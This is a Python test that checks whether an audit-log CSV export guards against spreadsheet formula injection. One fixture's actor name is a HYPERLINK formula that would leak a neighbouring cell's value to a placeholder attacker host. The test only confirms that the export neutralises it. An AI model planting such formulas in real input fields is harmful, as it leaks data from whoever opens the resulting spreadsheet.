"""The audit page's CSV download uses the export format, formula guard included."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from nano_export.models import AuditEvent
from nano_export.ui.tables import audit_csv, audit_frame


def test_the_audit_csv_guards_formulas_typed_as_login_names() -> None:
    events = [
        AuditEvent(
            id=1,
            at=datetime(2025, 8, 10, 12, 0, tzinfo=UTC),
            event="login.failed",
            actor='=HYPERLINK("http://evil.example/?"&A2,"click")',
            interface="dashboard",
        ),
        AuditEvent(
            id=2,
            at=datetime(2025, 8, 10, 12, 5, tzinfo=UTC),
            event="export.succeeded",
            actor="ann",
            export_id="abc",
            rows=12,
            details={"bytes": 10},
        ),
    ]
    data = audit_csv(audit_frame(events))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[1]["actor"].startswith("'=HYPERLINK(")
    assert rows[0]["at"] == "2025-08-10T12:05:00.000000Z"
    assert rows[0]["rows"] == "12"
    assert audit_csv(audit_frame([])).decode().startswith("at,event,actor")
